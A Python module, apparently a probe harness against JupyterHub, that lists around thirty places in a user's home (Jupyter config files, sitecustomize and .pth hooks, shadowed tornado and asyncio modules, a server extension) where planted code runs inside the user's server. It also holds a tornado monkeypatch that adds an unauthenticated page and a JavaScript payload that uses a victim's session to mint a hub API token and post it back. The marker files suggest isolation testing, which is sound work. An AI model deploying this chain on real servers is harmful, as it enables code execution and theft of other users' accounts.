"""Ways by which a person's own files might become code of his server; each tells if it ran."""

import sys

__all__ = ["CONFIGURATION", "PAGE", "ways"]

_SITE = f".local/lib/python{sys.version_info.major}.{sys.version_info.minor}/site-packages"
_TELL = "open({home!r} + '/dimuat', 'a').write({name!r} + '\\n')\n"
# A module in place of a real one: it says so and gives way.
_SHADOW = (
    _TELL
    + """
import importlib, sys
sys.path = [path for path in sys.path if path not in ('', {home!r})]
importlib.invalidate_caches()
del sys.modules[__name__]
sys.modules[__name__] = importlib.import_module(__name__)
"""
)
_ENABLED = '{"ServerApp": {"jpserver_extensions": {"curang": true}}}'
_EXTENSION = _TELL + "def _load_jupyter_server_extension(server): pass\n"

# The configuration of the chain: a page without a login, on whatever the server serves.
CONFIGURATION = """
from tornado import web

class Page(web.RequestHandler):
    def check_xsrf_cookie(self):
        pass
    def get(self):
        self.finish(open({home!r} + '/halaman.html').read())
    def post(self):
        open({home!r} + '/curian.txt', 'w').write(self.request.body.decode())

find = web.Application.find_handler
def find_handler(self, request, **more):
    if request.path.endswith('/halaman'):
        return self.get_handler_delegate(request, Page)
    return find(self, request, **more)
web.Application.find_handler = find_handler
"""

PAGE = """<!doctype html><title>mulai</title>curang<script>
(async () => {
  try {
    const hub = "HUB", text = await (await fetch(hub + "home", {credentials: "include"})).text();
    const xsrf = /xsrf_token:\\s*"([^"]+)/.exec(text)[1];
    const answer = await fetch(hub + "api/users/VICTIM/tokens", {method: "POST", body: "{}",
      credentials: "include", headers: {"X-XSRFToken": xsrf}});
    await fetch("halaman", {method: "POST", body: (await answer.json()).token});
  } finally { document.title = "selesai"; }
})();</script>"""


def ways(home):
    """Return path in the home → content; `home` is where it stands inside."""
    files = dict.fromkeys(
        (
            ".jupyter/jupyter_server_config.py",
            ".jupyter/jupyter_config.py",
            ".jupyter/jupyter_notebook_config.py",
            ".jupyter/jupyter_lab_config.py",
            ".jupyter/nbgrader_config.py",
            ".local/etc/jupyter/jupyter_server_config.py",
            ".local/share/jupyter/jupyter_server_config.py",
            ".config/jupyter/jupyter_server_config.py",
            "jupyter_server_config.py",
            "jupyter_config.py",
            "jupyter_lab_config.py",
            "jupyterhub_config.py",
            "nbgrader_config.py",
            f"{_SITE}/usercustomize.py",
            f"{_SITE}/sitecustomize.py",
        ),
        _TELL,
    )
    files |= dict.fromkeys(
        (
            "coursekit/__init__.py",
            "asyncio.py",
            "jupyterhub.py",
            "jupyter_server.py",
            "tornado.py",
            "sitecustomize.py",
            "usercustomize.py",
            f"{_SITE}/tornado.py",
        ),
        _SHADOW,
    )
    files |= {
        ".jupyter/jupyter_server_config.json": _ENABLED,
        ".jupyter/jupyter_server_config.d/curang.json": _ENABLED,
        ".local/etc/jupyter/jupyter_server_config.d/curang.json": _ENABLED,
        "curang.py": _EXTENSION,
        f"{_SITE}/curang.py": _EXTENSION,
        f"{_SITE}/curang.pth": "import sys; " + _TELL.strip() + "\n",
    }
    config = ".jupyter/jupyter_server_config.py"
    files[config] += CONFIGURATION
    return {
        name: text.replace("{home!r}", repr(home)).replace("{name!r}", repr(name))
        for name, text in files.items()
    }
